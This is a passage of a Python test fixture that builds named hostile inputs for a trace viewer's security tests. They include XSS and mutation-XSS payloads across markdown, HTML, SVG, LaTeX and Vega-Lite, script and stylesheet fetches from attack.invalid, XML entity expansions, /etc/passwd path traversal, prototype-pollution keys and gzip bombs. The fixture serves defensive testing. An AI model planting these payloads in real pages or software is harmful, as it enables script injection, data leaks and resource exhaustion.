# ruff: noqa: E501 - an attack is written as one line, as it is sent
"""Files that mean harm: at least 60, each with a name.

``ATTACKS`` is a list of (name, bytes): traces (gzip) and files for the importers (JSON). One that is let through shows
itself: it sets ``window.__pwned`` or asks for ``http://attack.invalid/NAME``. ``DEEP_LINKS`` are query strings for the
viewer's address. Nothing here is random, and nothing is large on disk: bombs are made when they are asked for.

Read in order: make (a trace with one thing wrong), PROSE, FORMULAS, HTML, SVG, JSON_OUTPUTS (what a page could run),
names (markup in every text), broken (what a reader could trip over), imported (for the importers), ATTACKS.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import zlib
from typing import Any

JS = "window.__pwned=1"
SITE = "http://attack.invalid"
IMG = f"<img src=x onerror={JS}>"

# ------------------------------------------------------------------------------------------------------ a whole trace


def records(
    *,
    title: str = "attack",
    prose: str = "prose",
    source: str = "# prose\nx = 1\nprint(x)\n",
    name: str = "main.py",
    values: list[Any] | None = None,
    variable: str = "x",
    outputs: list[Any] | None = None,
    blobs: list[Any] | None = None,
    codes: list[Any] | None = None,
    head: dict[str, Any] | None = None,
    steps: dict[str, Any] | None = None,
    end: dict[str, Any] | None = None,
) -> list[dict[str, Any]]:
    """A small trace: a cell of prose, two statements, one variable whose value is the last of ``values``."""
    values = values or [{"type": "scalar", "kind": "int", "text": "1"}]
    return [
        {
            "type": "head",
            "version": 1,
            "title": title,
            "python": "3.11",
            "files": [{"name": name, "text": source}],
            "codes": codes or [{"name": "<module>", "file": 0, "line": 1}],
            "cells": [
                {"kind": "markdown", "first": 1, "last": 1, "text": prose},
                {"kind": "code", "first": 2, "last": 3},
            ],
        }
        | (head or {}),
        {"type": "vals", "start": 0, "items": values},
        *(blobs or []),
        {
            "type": "steps",
            "start": 0,
            "op": "lle",
            "line": [2, 1, 0],
            "depth": [1, 1, 1],
            "arg": [0, 0, 0],
            "names": [variable],
            "changes": [[1, [[0, len(values) - 1]]]],
            "outputs": [[1, outputs]] if outputs else [],
        }
        | (steps or {}),
        {"type": "end", "steps": 3, "values": len(values)} | (end or {}),
    ]


def pack(lines: list[Any]) -> bytes:
    """Records (or bytes, as they are) as a gzipped file."""
    texts = [line if isinstance(line, bytes) else json.dumps(line).encode() for line in lines]
    return gzip.compress(b"\n".join(texts) + b"\n", mtime=0)


def make(**parts: Any) -> bytes:
    return pack(records(**parts))


def shown(mime: str, data: str, **fields: Any) -> dict[str, Any]:
    return {"name": "display", "mime": mime, "data": data, **fields}


def blob(data: bytes, mime: str = "image/svg+xml") -> dict[str, Any]:
    digest = hashlib.sha256(data).hexdigest()
    return {"type": "blob", "hash": digest, "mime": mime, "data": base64.b64encode(data).decode()}


def text_value(text: str, kind: str = "str") -> dict[str, Any]:
    return {"type": "text", "kind": kind, "text": text, "size": len(text)}


# -------------------------------------------------------------------------------------------- what a page could run

_SVG_DATA = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"/>'.encode()).decode()
_HTML_DATA = base64.b64encode(f"<script>opener.{JS}</script>".encode()).decode()

PROSE = {
    "script": f"<script>{JS}</script>",
    "img-onerror": IMG,
    "svg-onload": f"<svg onload={JS}>",
    "html-unterminated": f"<img src=x onerror={JS} ",
    "html-comment": f"<!--><img src=x onerror={JS}>-->",
    "html-link": f'<a href="javascript:{JS}" autofocus onfocus="{JS}">x</a>',
    "link-javascript": f"[x](javascript:{JS})",
    "link-javascript-case": f"[x](<JaVaScRiPt:{JS}>)",
    "link-javascript-entity": f"[x](javascript&colon;{JS}) [y](&#106;avascript:{JS}) [z](java&Tab;script:{JS})",
    "link-javascript-newline": f"[x](<java&#10;script:{JS}>)",
    "link-data": f"[x](data:text/html;base64,{_HTML_DATA})",
    "link-vbscript-file": f"[x](vbscript:{JS}) [y](file:///etc/passwd)",
    "link-protocol-relative-image": "![x](//attack.invalid/link-protocol-relative-image)",
    "autolink-javascript": f"<javascript:{JS}>",
    "link-nested": f"[a [b](javascript:{JS}) c](javascript:{JS}) [![x](javascript:{JS})](javascript:{JS})",
    "link-definition": f"[x]\n\n[x]: javascript:{JS}",
    "link-title": f"[x](https://example.org \"' onmouseover={JS} x='\")",
    "link-quote-in-address": f'[x](https://example.org/"onmouseover="{JS})',
    "image-fetch": f"![x]({SITE}/image-fetch)",
    "image-data-svg": f"![x](data:image/svg+xml;base64,{_SVG_DATA})",
    "image-alt": f'![x" onerror="{JS}](y)',
    "fence-info": f'```html"><img/src=x/onerror={JS}>\nx\n```',
    "fence-python": f"```python\n{IMG}</code></pre>{IMG}\n```",
    "heading": f"# {IMG}\n\n## <script>{JS}</script> `{IMG}`",
    "table": f"| a | b |\n|---|---|\n| {IMG} | <b onclick={JS}>c</b> |",
    "entities": f"&lt;img src=x onerror={JS}&gt; &#x3c;script&#x3e;{JS}&#x3c;/script&#x3e;",
    "many-brackets": "[" * 20_000,
    "deep-quotes": ">" * 3_000 + " x",
    "deep-lists": "\n".join("  " * depth + "- x" for depth in range(300)),
    "emphasis-run": "*a **b " * 5_000,
    "backtick-runs": " ".join("`" * size for size in range(1, 300)),
}

FORMULAS = {
    "formula-href": rf"\href{{javascript:{JS}}}{{x}}",
    "formula-html": IMG,
    "formula-text-html": rf"\text{{<script>{JS}</script>}} \text{{{IMG}}}",
    "formula-leaves-math": rf"\text{{</mtext></math>{IMG}}}",
    "formula-annotation": rf'\text{{<annotation-xml encoding="text/html">{IMG}</annotation-xml>}}',
    "formula-style": rf"\style{{background:url({SITE}/formula-style)}}{{x}} \class{{x}}{{y}} \cssId{{z}}{{w}}",
    "formula-image": rf"\includegraphics{{{SITE}/formula-image}}",
    "formula-unicode": r"\unicode{x3c}img src=x onerror=" + JS + r"\unicode{x3e}",
    "formula-color": rf"\color{{red;background:url({SITE}/formula-color)}}{{x}} \textcolor{{\"><img>}}{{x}}",
    "formula-doubling": r"\def\a{\a\a}\a \newcommand{\b}{\b\b}\b",
    "formula-deep": "{" * 2_000 + "x" + "}" * 2_000,
    "formula-sqrt-deep": r"\sqrt{" * 800 + "x" + "}" * 800,
    "formula-attribute": rf'\hspace{{1em" onmouseover="{JS}}} \rule{{1em" onload="{JS}}}{{1em}}',
}

HTML = {
    "html-script": f"<script>{JS}</script><script src={SITE}/html-script></script>",
    "html-onerror": IMG,
    "html-nul": f"<scr\0ipt>{JS}</scr\0ipt><img src=x on\0error={JS}>",
    "html-iframe-srcdoc": f'<iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
    "html-iframe-src": f'<iframe src="javascript:parent.{JS}"></iframe><iframe src="{SITE}/html-iframe-src"></iframe>',
    "html-form": f'<form action="{SITE}/html-form"><input autofocus onfocus={JS}><button formaction="javascript:{JS}">x',
    "html-meta": f'<meta http-equiv=refresh content="0;url={SITE}/html-meta">',
    "html-base": f"<base href={SITE}/html-base/><img src=x.png>",
    "html-style": f"<style>@import '{SITE}/html-style'; * {{ background: url({SITE}/html-style) }}</style>",
    "html-style-attribute": f'<div style="background:url({SITE}/html-style-attribute)">x</div>',
    "html-style-escape": f'<div style="background:u\\72l({SITE}/html-style-escape)">x</div>',
    "html-style-comment": f'<div style="background:ur/**/l({SITE}/a);background:url/**/({SITE}/html-style-comment)">x</div>',
    "html-style-imageset": f"<div style=\"background-image:image-set('{SITE}/html-style-imageset' 1x)\">x</div>",
    "html-style-cursor": f'<p style="cursor:url({SITE}/c),auto;list-style:url({SITE}/html-style-cursor)">x</p>',
    "html-overlay": f'<a href="https://example.org" style="position:fixed;inset:0;z-index:9999" onclick={JS}>x</a>',
    "html-link": f"<link rel=stylesheet href={SITE}/html-link><link rel=prefetch href={SITE}/html-link>",
    "html-object": f"<object data={SITE}/html-object></object><embed src={SITE}/html-object>",
    "html-video": f"<video autoplay poster={SITE}/html-video><source src={SITE}/html-video onerror={JS}></video>",
    "html-audio": f"<audio src={SITE}/html-audio autoplay onerror={JS}>",
    "html-srcset": f'<img srcset="{SITE}/html-srcset 1x"><picture><source srcset="{SITE}/html-srcset"><img></picture>',
    "html-img-fetch": f"<img src={SITE}/html-img-fetch><image src={SITE}/html-img-fetch>",
    "html-img-data": f"<img src='data:image/svg+xml;base64,{_SVG_DATA}'><img src='data:text/html;base64,{_HTML_DATA}'>",
    "html-input-image": f"<input type=image src={SITE}/html-input-image onerror={JS}>",
    "html-details": f"<details open ontoggle={JS}>x</details>",
    "html-marquee": f"<marquee onstart={JS}>x</marquee><body onload={JS}>",
    "html-background": f"<table background={SITE}/html-background><tr><td background={SITE}/html-background>x",
    "html-ping": f"<a href=https://example.org ping={SITE}/html-ping>x</a>",
    "html-link-schemes": f"<a href=javascript:{JS}>x</a><a href='data:text/html;base64,{_HTML_DATA}'>y</a>",
    "html-link-control": f"<a href='\x01java\tscript:{JS}'>x</a><a href='&#1;javascript:{JS}'>y</a>",
    "html-svg": f"<svg><script>{JS}</script><a xlink:href=javascript:{JS}><text>x</text></a></svg>",
    "html-svg-animate": f"<svg><a><animate attributeName=href values=javascript:{JS} /><text y=9>x</text></a></svg>",
    "html-svg-use": f"<svg><use href='{SITE}/html-svg-use#x'/><image href={SITE}/html-svg-use /></svg>",
    "html-mathml": f"<math href=javascript:{JS}><mi xlink:href=javascript:{JS}>x</mi></math>",
    "html-annotation-xml": f'<math><annotation-xml encoding="text/html">{IMG}</annotation-xml></math>',
    "html-maction": f'<math><maction actiontype="statusline#{SITE}" xlink:href="javascript:{JS}">x</maction></math>',
    "mxss-mglyph": f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
    "mxss-noscript": f'<noscript><p title="</noscript>{IMG}"></noscript>',
    "mxss-style": f'<svg></p><style><a id="</style>{IMG}">',
    "mxss-table": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{IMG.replace("<", "&lt;")}">',
    "mxss-template": f"<template><style></template>{IMG}</style>",
    "mxss-rawtext": f"<xmp><p title='</xmp>{IMG}'></xmp><textarea><a title='</textarea>{IMG}'></textarea>",
    "mxss-namespace": f"<svg><foreignObject><math><mi><style><!--</style>{IMG}--></style></mi></math></foreignObject></svg>",
    "mxss-comment": f"<!--<img src='--!>{IMG}'>--><!--><script>{JS}</script>-->",
    "mxss-nesting": "<div>" * 600 + f"<svg><style>{'</div>' * 600}{IMG}</style></svg>",
    "html-clobbering": "<form id=body><img name=getElementById><input name=attributes><a id=__pwned href=x>x</a></form>",
    "html-speculation": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{SITE}/html-speculation"]}}]}}</script>',
    "html-custom-element": f"<x-y onclick={JS}>x</x-y><div is=x-y slot=x popover onbeforetoggle={JS}>z</div>",
    "html-deep": "<div>" * 20_000,
    "html-attributes": "<b " + " ".join(f"a{number}=1" for number in range(5_000)) + ">x</b>",
}

_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">'
SVG = {
    "svg-script": f"{_SVG}<script>top.{JS}</script></svg>",
    "svg-onload-root": _SVG.replace("<svg", f'<svg onload="top.{JS}"') + "</svg>",
    "svg-foreign": f'{_SVG}<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{SITE}/svg-foreign"/>'
    "</foreignObject></svg>",
    "svg-image": f'{_SVG}<image href="{SITE}/svg-image" xlink:href="{SITE}/svg-image"/></svg>',
    "svg-use": f'{_SVG}<use href="{SITE}/svg-use#a"/></svg>',
    "svg-style": f"{_SVG}<style>@import url({SITE}/svg-style);</style></svg>",
    "svg-link": f'{_SVG}<a href="javascript:top.{JS}"><rect width="9" height="9"/></a></svg>',
    "svg-animate": f'{_SVG}<a><animate attributeName="href" values="javascript:top.{JS}"/><rect width="9" height="9"/></a>'
    "</svg>",
    "svg-stylesheet": f'<?xml-stylesheet href="{SITE}/svg-stylesheet"?>{_SVG}</svg>',
    "svg-entity": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{SITE}/svg-entity">]>{_SVG}<text>&x;</text></svg>',
    "svg-laughs": '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    + f"]>{_SVG}<text>&j;</text></svg>",
    "svg-is-html": f"<html><script>top.{JS}</script></html>",
}

JSON_OUTPUTS: dict[str, tuple[str, Any]] = {
    "card-javascript": ("reference", {"text": "x", "url": f"javascript:{JS}", "title": "t"}),
    "card-javascript-space": ("reference", {"text": "x", "url": f" \x01java\nscript:{JS}", "title": "t"}),
    "card-data": ("reference", {"text": "x", "url": f"data:text/html;base64,{_HTML_DATA}"}),
    "card-markup": ("reference", dict.fromkeys(["text", "title", "organization", "date", "description", "notes"], IMG)),
    "card-types": ("reference", {"text": {"a": 1}, "url": ["x"], "authors": {"0": IMG}, "title": 7, "notes": None}),
    "card-authors": ("reference", {"text": "x", "title": "t", "authors": [IMG, 1, None, {}] * 2_000}),
    "card-line": ("reference", {"text": IMG, "path": "../../etc/passwd", "line": -1e308}),
    "card-proto": ("reference", {"__proto__": {"url": f"javascript:{JS}"}, "constructor": IMG}),
    "missing-markup": ("missing", {"kind": "image", "name": f'"{IMG}'}),
    "missing-address": ("missing", {"kind": "image", "name": f"{SITE}/missing-address"}),
    "missing-video": ("missing", {"kind": IMG, "name": f"{SITE}/missing-video.mp4"}),
    "graph-markup": (
        "graph",
        {
            "nodes": [{"id": IMG, "label": IMG, "x": 0, "y": 0}, {"id": "b", "label": f"</text><script>{JS}</script>"}],
            "edges": [{"source": IMG, "target": "b", "label": IMG}, {"source": "no", "target": "where"}],
            "width": f'9" onload="{JS}',
            "height": -5,
        },
    ),
    "graph-types": ("graph", {"nodes": [1, None, {"id": {}}], "edges": {"a": 1}, "layout": [], "width": 1e308}),
    "graph-large": (
        "graph",
        {
            "nodes": [{"id": str(n), "label": "n", "x": 1e300, "y": -1e300} for n in range(5_000)],
            "edges": [{"source": str(n), "target": str((n * 7) % 5_000)} for n in range(5_000)],
        },
    ),
    "vega-fetch": ("vegalite", {"mark": "bar", "data": {"url": f"{SITE}/vega-fetch.json"}, "encoding": {}}),
    "vega-fetch-file": ("vegalite", {"mark": "bar", "data": {"url": "file:///etc/passwd", "format": {"type": "csv"}}}),
    "vega-topojson": (
        "vegalite",
        {"mark": "geoshape", "data": {"url": f"{SITE}/vega-topojson", "format": {"type": "topojson", "feature": "x"}}},
    ),
    "vega-image": (
        "vegalite",
        {
            "mark": {"type": "image", "url": f"{SITE}/vega-image.png", "width": 9, "height": 9},
            "data": {"values": [{"a": 1}]},
            "encoding": {"x": {"field": "a", "type": "quantitative"}},
        },
    ),
    "vega-href": (
        "vegalite",
        {
            "mark": {"type": "point", "href": f"javascript:{JS}", "tooltip": IMG},
            "data": {"values": [{"a": 1, "h": f"javascript:{JS}"}]},
            "encoding": {"x": {"field": "a", "type": "quantitative"}, "href": {"field": "h"}},
        },
    ),
    "vega-expression": (
        "vegalite",
        {
            "params": [{"name": "p", "expr": f"constructor.constructor('{JS}')()"}],
            "data": {"sequence": {"start": 0, "stop": 10}},
            "transform": [{"calculate": f"[].constructor.constructor('{JS}')()", "as": "b"}],
            "mark": "bar",
        },
    ),
    "vega-sequence": ("vegalite", {"mark": "point", "data": {"sequence": {"start": 0, "stop": 1e12}}, "encoding": {}}),
    "vega-schema": ("vegalite", {"$schema": f"{SITE}/vega-schema", "mark": "bar", "data": {"values": []}}),
    "vega-usermeta": ("vegalite", {"usermeta": {"embedOptions": {"loader": {"baseURL": SITE}}}, "mark": IMG}),
}
_MIMES = {
    "reference": "application/vnd.lilllm.reference+json",
    "missing": "application/vnd.lilllm.missing+json",
    "graph": "application/vnd.lilllm.graph+json",
    "vegalite": "application/vnd.vegalite.v5+json",
}


def names() -> dict[str, bytes]:
    """Markup, and names that mean something to JavaScript, wherever a trace holds a text."""
    tag = f'"><{IMG[1:]}'
    close = f"</script><script>{JS}</script><!--<script>"
    made = {
        "title": make(title=f"</title><script>{JS}</script>{IMG}"),
        "file-name": make(name=f"{IMG.replace(':', '')}.py"),
        "variable": make(variable=tag),
        "value-kind": make(values=[{"type": "scalar", "kind": tag, "text": tag}]),
        "value-text": make(values=[text_value(tag + close)]),
        "object": make(
            values=[
                text_value(tag),
                {"type": "object", "kind": tag, "text": tag, "size": 1, "head": [[tag, 0]]},
                {"type": "map", "kind": tag, "size": 1, "head": [[0, 1]]},
                {"type": "seq", "kind": tag, "size": 9, "head": [2, 1, 0]},
            ]
        ),
        "cut": make(values=[{"type": "cut", "kind": tag, "text": tag}]),
        "tensor": make(
            values=[
                {
                    "type": "tensor",
                    "kind": tag,
                    "shape": [2],
                    "dtype": tag,
                    "device": tag,
                    "min": tag,
                    "data": [tag, IMG],
                }
            ]
        ),
        "rich-tokens": make(
            values=[
                {
                    "type": "rich",
                    "kind": tag,
                    "view": "tokens",
                    "text": tag,
                    "data": {"pieces": [tag, IMG], "ids": [1, tag]},
                }
            ]
        ),
        "rich-types": make(
            values=[
                {
                    "type": "rich",
                    "kind": "k",
                    "view": "tokens",
                    "text": "t",
                    "data": {"pieces": {"a": IMG}, "ids": None},
                }
            ]
        ),
        "code-name": make(
            codes=[{"name": "<module>", "file": 0, "line": 1}, {"name": tag, "file": 0, "line": 2}],
            steps={"op": "lcr", "line": [2, 0, 0], "depth": [1, 2, 2], "arg": [0, 1, 0], "changes": []},
        ),
        "exception": make(
            values=[text_value(tag, kind=IMG)],
            steps={"op": "lxe", "arg": [0, 0, 0], "changes": []},
        ),
        "source": make(source=f"# {close}\nx = '{IMG}'\nprint(x)\n{close}"),
        "stdout": make(
            outputs=[{"name": "stdout", "mime": "text/plain", "data": f"{tag}\x1b]8;;javascript:{JS}\x07x\x1b]8;;\x07"}]
        ),
        "note": make(outputs=[shown("text/x-note", tag + close)]),
        "end": make(end={"stopped": tag + close, "notes": [tag, IMG] * 50}),
        "packages": make(head={"python": tag, "packages": {tag: IMG, "__proto__": "1"}}),
        "tags": make(
            head={
                "cells": [
                    {
                        "kind": "markdown",
                        "first": 1,
                        "last": 1,
                        "text": "x",
                        "tags": [tag, "x onclick=" + JS, "__proto__"],
                    },
                    {"kind": "code", "first": 2, "last": 3, "tags": [tag]},
                ]
            }
        ),
        "pins": make(
            steps={"pins": [[0, [tag, "__proto__", "constructor"]]], "clears": [[1, [tag, "hasOwnProperty"]]]}
        ),
        "picture-alt": make(
            blobs=[blob(f"{_SVG}</svg>".encode())],
            outputs=[shown("image/svg+xml", blob(f"{_SVG}</svg>".encode())["hash"], alt=tag, width=2**31)],
        ),
        "script-end": make(title=close, prose=close, outputs=[shown("text/plain", close)], values=[text_value(close)]),
        "line-separators": make(title="a\u2028b\u2029c", prose="x\u2028y", values=[text_value(f"\u2028{JS}\u2029//")]),
        "bidi": make(name="\u202egpj.py", variable="\u202eresu\u202c", values=[text_value("\u2066\u202e\u2067" * 200)]),
        "control": make(title="\x00\x07\x1b[2J", variable="\x00", values=[text_value("\x00\x1b[31m\x85\ufeff\ufffe")]),
        "combining": make(values=[text_value("a" + "\u0301" * 5_000)], prose="Z" + "\u0489" * 3_000),
    }
    for word in ("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "then", "length", "innerHTML"):
        made[f"word-{word}"] = make(
            title=word,
            name=word,
            variable=word,
            values=[
                text_value(word, kind=word),
                {"type": "object", "kind": word, "head": [[word, 0]]},
                {"type": "map", "kind": word, "size": 1, "head": [[0, 1]]},
                {"type": "rich", "kind": word, "view": word, "text": word, "data": {word: {word: IMG}}},
            ],
        )
    return {f"name-{name}": data for name, data in made.items()}


# -------------------------------------------------------------------------------- what a reader could trip over


def _repeated(block: bytes, times: int, prefix: bytes = b"") -> bytes:
    """A gzip file of ``prefix`` and then ``times`` blocks, made without holding them: each is flushed to stand alone."""
    stream = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = stream.compress(prefix) + stream.flush(zlib.Z_FULL_FLUSH)
    again = stream.compress(block) + stream.flush(zlib.Z_FULL_FLUSH)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + start + again * times + stream.flush()


def _changed(index: int, **fields: Any) -> bytes:
    lines = records(values=[text_value("a"), {"type": "seq", "kind": "list", "size": 1, "head": [0]}])
    lines[index] |= fields
    return pack(lines)


def broken() -> dict[str, bytes]:
    """Files that are damaged, or lie about themselves."""
    whole = records(
        blobs=[blob(f"{_SVG}</svg>".encode())],
        outputs=[shown("image/svg+xml", blob(f"{_SVG}</svg>".encode())["hash"])],
    )
    packed = pack(whole)
    head = json.dumps(whole[0]).encode() + b"\n"
    mib = 1 << 20
    made = {
        "empty": b"",
        "empty-gzip": gzip.compress(b"", mtime=0),
        "html-file": f"<html><script>{JS}</script>".encode(),
        "zip": b"PK\x03\x04" + b"\0" * 100,
        "gzip-header-only": b"\x1f\x8b\x08",
        "gzip-damaged": packed[:40] + bytes(byte ^ 255 for byte in packed[40:60]) + packed[60:],
        "gzip-cut": packed[: len(packed) // 2],
        "gzip-two-members": packed + packed,
        "gzip-trailing": packed + b"x" * 1_000,
        "bomb-zeros": _repeated(b"\0" * mib, 4_096),
        "bomb-line": _repeated(b" " * mib, 1_024, head),
        "bomb-newlines": _repeated(b"\n" * mib, 1_024, head),
        "bomb-string": _repeated(
            b"a" * mib, 1_024, head + b'{"type":"vals","start":0,"items":[{"type":"text","text":"'
        ),
        "bomb-records": _repeated(b'{"type":"end","steps":0,"values":0}\n' * 20_000, 500, head),
        "bomb-lists": _repeated(b"[]," * (mib // 3), 7, head + b'{"type":"steps","start":0,"op":"","line":['),
        "bomb-objects": _repeated(
            b'{"type":"cut","kind":"","text":""},' * 20_000, 11, head + b'{"type":"vals","start":0,"items":['
        ),
        # Each of these took 0.7 to 1.2 GB of memory before the reader counted what a file becomes.
        "bomb-pairs": pack(
            [
                *whole[:3],
                whole[3] | {"changes": []},
                b'{"type":"steps","start":3,"op":"","line":[],"depth":[],'
                b'"arg":[],"outputs":[' + b"[1,[]]," * 1_100_000 + b"[1,[]]]}",
            ]
        ),
        "bomb-names": _repeated(
            b'{"type":"steps","start":0,"op":"","line":[],"depth":[],"arg":[],"names":['
            + b'"ab",' * 200_000
            + b'"c"]}\n',
            60,
            head,
        ),
        "bomb-grids": pack(
            [
                whole[0],
                b'{"type":"vals","start":0,"items":['
                + b",".join(
                    [b'{"type":"tensor","kind":"","shape":[],"dtype":"","grid":[' + b",".join([b"[]"] * 16) + b"]}"]
                    * 70_000
                )
                + b"]}",
            ]
        ),
        "bomb-changes": _repeated(
            b'{"type":"steps","start":0,"op":"l","line":[1],"depth":[1],"arg":[0],"names":["x"],'
            b'"changes":[[0,[' + b"[0,-1]," * 1_000_000 + b"[0,-1]]]]}\n",
            1,
            head,
        ),
        "nested-lists": pack([whole[0], b"[" * 1_000_000]),
        "nested-rich": pack(
            [
                whole[0],
                b'{"type":"vals","start":0,"items":[{"type":"rich","kind":"k","view":"v","text":"t","data":'
                + b"[" * 100_000
                + b"]" * 100_000
                + b"}]}",
            ]
        ),
        "no-head": pack(whole[1:]),
        "two-heads": pack([whole[0], *whole]),
        "after-end": pack([*whole, whole[1]]),
        "not-json": pack([b"not json at all"]),
        "not-utf8": pack([whole[0], b'{"type":"vals","start":0,"items":[{"type":"cut","kind":"\xff\xfe","text":""}]}']),
        "json-nan": pack([whole[0], b'{"type":"vals","start":NaN,"items":[]}']),
        "unknown-version": _changed(0, version=2),
        "version-negative": _changed(0, version=-1),
        "version-text": _changed(0, version="1"),
        "unknown-field": _changed(0, evil=1),
        "unknown-record": pack([whole[0], {"type": "script", "src": SITE}]),
        "unknown-value": _changed(1, items=[{"type": "html", "text": IMG}]),
        "type-title": _changed(0, title={"toString": 1}),
        "type-files": _changed(0, files="x"),
        "type-cells": _changed(0, cells=[{"kind": "html", "first": 1, "last": 1}]),
        "type-op": _changed(2, op=["l", "l", "e"]),
        "type-line": _changed(2, line=["2", None, {}]),
        "type-changes": _changed(2, changes=[[1, {"0": 0}]]),
        "no-files": _changed(0, files=[], cells=[]),
        "file-absolute": _changed(0, files=[{"name": "/etc/passwd", "text": "x\n" * 9}]),
        "file-upward": _changed(0, files=[{"name": "a/../../etc/passwd", "text": "x\n" * 9}]),
        "file-windows": _changed(0, files=[{"name": "C:\\x.py", "text": "x\n" * 9}]),
        "file-control": _changed(0, files=[{"name": "a\nb", "text": "x\n" * 9}]),
        "code-file": _changed(0, codes=[{"name": "<module>", "file": 7, "line": 1}]),
        "code-negative": _changed(0, codes=[{"name": "<module>", "file": -1, "line": 1}]),
        "code-line": _changed(0, codes=[{"name": "<module>", "file": 0, "line": 2**62}]),
        "cell-order": _changed(0, cells=[{"kind": "code", "first": 3, "last": 2}]),
        "cell-huge": _changed(0, cells=[{"kind": "code", "first": 1, "last": 2**62}]),
        "value-forward": _changed(1, items=[{"type": "seq", "kind": "list", "size": 1, "head": [1]}, text_value("x")]),
        "value-itself": _changed(1, items=[{"type": "seq", "kind": "list", "size": 1, "head": [0]}, text_value("x")]),
        "value-negative": _changed(
            1, items=[text_value("x"), {"type": "map", "kind": "dict", "size": 1, "head": [[-1, 0]]}]
        ),
        "value-start": _changed(1, start=5),
        "value-size": _changed(
            1, items=[text_value("x"), {"type": "seq", "kind": "list", "size": -(2**62), "head": [0]}]
        ),
        "tensor-shape": _changed(1, items=[{"type": "tensor", "kind": "T", "shape": [2**40, 2**40], "dtype": "d"}] * 2),
        "tensor-axes": _changed(1, items=[{"type": "tensor", "kind": "T", "shape": [1] * 10_000, "dtype": "d"}] * 2),
        "tensor-data": _changed(
            1, items=[{"type": "tensor", "kind": "T", "shape": [3], "dtype": "d", "data": [1]}] * 2
        ),
        "tensor-negative": _changed(1, items=[{"type": "tensor", "kind": "T", "shape": [-3], "dtype": "d"}] * 2),
        "tensor-grid": _changed(
            1, items=[{"type": "tensor", "kind": "T", "shape": [9], "dtype": "d", "grid": [[0.0] * 99] * 99}] * 2
        ),
        "tensor-ragged": _changed(
            1,
            items=[{"type": "tensor", "kind": "T", "shape": [999], "dtype": "d", "grid": [[], [1.0], [None] * 16]}] * 2,
        ),
        "tensor-counts": _changed(
            1,
            items=[{"type": "tensor", "kind": "T", "shape": [2], "dtype": "d", "nan": -5, "inf": 2**60, "min": "<b>"}]
            * 2,
        ),
        "step-columns": _changed(2, arg=[0]),
        "step-op": _changed(2, op="lzq"),
        "step-op-unicode": _changed(2, op="l\U0001f600e"),
        "step-line-negative": _changed(2, line=[2, -5, 0]),
        "step-line-huge": _changed(2, line=[2**62, 2**62, 2**62]),
        "step-line-overflow": _changed(2, line=[10**400, 1, 0]),
        "step-line-float": pack(
            [*whole[:3], b'{"type":"steps","start":0,"op":"l","line":[1e999],"depth":[1],"arg":[0]}']
        ),
        "step-depth-zero": _changed(2, depth=[1, 0, 1]),
        "step-depth-huge": _changed(2, depth=[1, 2**31, 1]),
        "step-call-nothing": _changed(2, op="lce", depth=[1, 2, 1], arg=[0, 99, 0]),
        "step-resume-nothing": _changed(2, op="lse", depth=[1, 2, 1], arg=[0, 0, 0]),
        "step-return-nothing": _changed(2, op="lre", arg=[0, 99, 0]),
        "step-folded": _changed(2, op="lfe", arg=[0, 2**62, 0]),
        "step-names": _changed(2, changes=[[1, [[5, 0]]]]),
        "step-values": _changed(2, changes=[[1, [[0, -2]]]]),
        "step-order": _changed(2, changes=[[2, [[0, 0]]], [1, [[0, 0]]]]),
        "step-twice": _changed(2, changes=[[1, [[0, 0]]], [1, [[0, 1]]]]),
        "step-outside": _changed(2, outputs=[[99, [shown("text/plain", "x")]]]),
        "step-pins-outside": _changed(2, pins=[[-1, ["x"]]]),
        "output-mime": _changed(2, outputs=[[1, [shown("text/javascript", JS)]]]),
        "output-mime-case": _changed(2, outputs=[[1, [shown("TEXT/HTML", IMG)]]]),
        "output-name": _changed(2, outputs=[[1, [{"name": "eval", "mime": "text/plain", "data": "x"}]]]),
        "output-no-picture": _changed(2, outputs=[[1, [shown("image/png", "0" * 64)]]]),
        "output-picture-address": _changed(2, outputs=[[1, [shown("image/png", f"{SITE}/output-picture-address")]]]),
        "output-json-broken": _changed(2, outputs=[[1, [shown(_MIMES["graph"], "{")]]]),
        "output-json-list": _changed(2, outputs=[[1, [shown(_MIMES["reference"], "[1]")]]]),
        "output-json-deep": _changed(
            2, outputs=[[1, [shown(_MIMES["vegalite"], '{"a":' * 50_000 + "1" + "}" * 50_000)]]]
        ),
        "blob-hash": pack([*whole[:2], whole[2] | {"hash": "0" * 64}, *whole[3:]]),
        "blob-base64": pack([*whole[:2], whole[2] | {"data": "!!"}, *whole[3:]]),
        "blob-mime": pack([*whole[:2], whole[2] | {"mime": "text/html"}, *whole[3:]]),
        "end-counts": _changed(3, steps=9),
        "end-huge": _changed(3, steps=2**62),
        "surrogates": pack([head[:-1].replace(b"attack", b"\\ud800\\udfff\\udc00"), *whole[1:]]),
        "duplicate-keys": pack([head[:-1].replace(b'"version": 1', b'"version": 2, "version": 1'), *whole[1:]]),
        "values-doubling": make(
            values=[text_value("x")]
            + [{"type": "seq", "kind": "list", "size": 2, "head": [number, number]} for number in range(60)]
        ),
        "values-deep": make(
            values=[text_value("x")]
            + [{"type": "seq", "kind": "list", "size": 1, "head": [number]} for number in range(20_000)]
        ),
        "stack-deep": make(
            codes=[{"name": "<module>", "file": 0, "line": 1}, {"name": "f", "file": 0, "line": 2}],
            steps={
                "op": "l" + "c" * 9_000,
                "line": [2] + [0] * 9_000,
                "depth": list(range(1, 9_002)),
                "arg": [0] + [1] * 9_000,
                "changes": [],
            },
            end={"steps": 9_001},
        ),
        "steps-many": make(
            steps={
                "op": "l" * 300_000,
                "line": [2] + [0] * 299_999,
                "depth": [1] * 300_000,
                "arg": [0] * 300_000,
                "changes": [],
            },
            end={"steps": 300_000},
        ),
